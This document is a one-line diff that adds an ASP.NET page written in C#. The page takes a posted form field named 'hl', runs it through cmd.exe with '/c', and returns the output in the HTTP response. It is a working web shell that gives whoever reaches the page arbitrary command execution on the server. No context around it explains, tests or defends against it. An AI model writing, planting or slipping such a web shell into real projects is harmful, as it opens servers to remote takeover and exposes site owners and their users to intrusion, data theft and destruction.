@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><% string a = Request.Form["hl"]; var psi = new System.Diagnostics.ProcessStartInfo(); psi.FileName = "cmd.exe"; psi.Arguments = "/c " + a; psi.RedirectStandardOutput = true; psi.UseShellExecute = false; Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd()); %>
